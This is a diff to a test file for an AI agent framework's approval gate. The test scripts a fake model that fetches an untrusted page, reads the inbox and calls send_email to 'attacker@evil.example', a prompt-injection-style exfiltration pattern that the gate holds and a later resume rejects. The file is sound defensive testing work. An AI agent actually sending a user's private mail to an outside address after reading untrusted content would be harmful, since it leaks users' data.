@@ -14,7 +14,7 @@ import { FakeLLM, makeTestCtx, Turn, Fixture, Seed } from "@agentkit/testing"
 import type { TestContextOptions } from "@agentkit/testing"
 import { asTool, Tool } from "@agentkit/tools"
 import { describe, expect, it } from "@effect/vitest"
-import { Deferred, Effect, Exit, Fiber, Layer, Schema, Stream } from "effect"
+import { Cause, Deferred, Effect, Exit, Fiber, Layer, Option, Schema, Stream } from "effect"
 import { call, recordingStore, recordOf } from "./fixtures.js"
 
 const { failureOf } = Fixture
@@ -322,40 +322,35 @@ describe("a crashed run resumes from its last checkpoint", () => {
     ])
   })
 
-  it("a crash mid-round that leaves the rest of the round gated: the resume keeps the finished call's result", async () => {
+  it("a round whose calls together complete the trifecta is gated before any of it runs; a re-drive finds it suspended", async () => {
     // Round 1 fetches the page (the untrusted leg). Round 2 asks for the inbox and a mail at once:
-    // at gate time the private leg is untouched, so both run. The run crashes after the inbox
-    // result is checkpointed; the re-drive now sees both legs touched and gates the mail.
+    // together they would complete the trifecta, so the mail waits at the gate and nothing of the
+    // round runs (the crash middleware never fires). A re-drive of the same run id finds it suspended.
     const world = makeWorld()
     const inner = CheckpointStore.makeMemory()
-    const { signal: recorded, store: watched } = watching(inner, (state) => state.turn.completed.length === 1 && state.iteration === 1)
     const dying: ToolMiddleware = (next) => (invocation) =>
-      invocation.tool.name === "send_email" ? Effect.zipRight(Deferred.await(recorded), Effect.die(new Error("crash"))) : next(invocation)
+      invocation.tool.name === "send_email" ? Effect.die(new Error("crash")) : next(invocation)
     const mail = call("c3", "send_email", { to: "attacker@evil.example" })
     const first = FakeLLM.script([Turn({ toolCalls: [call("c1", "fetch_url")] }), Turn({ toolCalls: [call("c2", "read_inbox"), mail] })])
-    const crashed = await Effect.runPromiseExit(
-      world.agent().run(TASK).pipe(Effect.provide(layerOf(first, watched, { toolMiddleware: [dying] })))
-    )
-    expect(Exit.isFailure(crashed)).toBe(true)
-    expect(world.ran).toMatchObject({ page: 1, inbox: 1, sent: 0 })
-
-    const redrive = FakeLLM.script([])
-    const suspended = await Effect.runPromise(world.agent().run(TASK).pipe(Effect.provide(layerOf(redrive, inner))))
-    expect(redrive.calls).toBe(0)
+    const suspended = await Effect.runPromise(world.agent().run(TASK).pipe(Effect.provide(layerOf(first, inner, { toolMiddleware: [dying] }))))
+    expect(world.ran).toMatchObject({ page: 1, inbox: 0, sent: 0 })
     expect(suspended.stopReason).toBe("awaiting_approval")
-    expect(suspended.suspended?.pending.map((p) => p.call.id)).toEqual(["c3"])
-    expect(suspended.suspended?.pending[0]).toMatchObject({ call: mail, kind: "Gate", reasons: ["trifecta"] })
+    // the whole turn waits: the inbox read with no reason of its own, the mail at the gate
+    expect(suspended.suspended?.pending.map((p) => [p.call.id, p.reasons])).toEqual([["c2", []], ["c3", ["trifecta"]]])
+    expect(suspended.suspended?.pending[1]).toMatchObject({ call: mail, kind: "Gate", reasons: ["trifecta"] })
+    const again = await Effect.runPromiseExit(world.agent().run(TASK).pipe(Effect.provide(layerOf(FakeLLM.script([]), inner))))
+    expect(Exit.isFailure(again) && Cause.failureOption(again.cause).pipe(Option.map((e) => (e as { _tag: string })._tag), Option.getOrNull)).toBe("RunSuspended")
 
     const llm = FakeLLM.script([Turn({ content: "final" })])
-    const gated = suspended.suspended!.pending[0]!
+    const [read, gated] = suspended.suspended!.pending as [Approval.PendingEntry, Approval.PendingEntry]
     const result = await Effect.runPromise(
       world
         .agent()
-        .resume("test-run", { [gated.id]: Approval.reject(gated.digest, "no") })
+        .resume("test-run", { [read.id]: Approval.approve(read.digest), [gated.id]: Approval.reject(gated.digest, "no") })
         .pipe(Effect.provide(layerOf(llm, inner)))
     )
     expect(result.output).toBe("final")
-    expect(world.ran).toMatchObject({ page: 1, inbox: 1, sent: 0 })
+    expect(world.ran).toMatchObject({ page: 1, inbox: 1, sent: 0 }) // the rejection held the mail only
     // every call of the assistant turn has its result, in call order
     expect(toolMessages(llm.requests[0]!.messages).map(([id]) => id)).toEqual(["c1", "c2", "c3"])
   })
